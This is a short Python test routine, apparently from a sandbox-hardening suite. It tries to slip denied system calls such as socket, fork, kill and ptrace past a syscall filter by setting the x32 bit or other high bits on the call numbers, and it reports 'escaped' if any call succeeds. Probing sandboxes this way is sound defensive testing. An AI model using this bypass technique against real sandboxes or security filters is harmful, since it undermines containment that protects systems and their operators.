# Attempts: make denied calls by the numbers of another interface of the kernel (x32), and by negative ones.

def attack(world):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    for number in (41, 57, 62, 101, 221, 319):
        for bits in (0x40000000, 0x80000000, 1 << 32):
            if libc.syscall(ctypes.c_long(number | bits), 0, 0, 0, 4) >= 0:
                return "escaped", number, hex(bits)
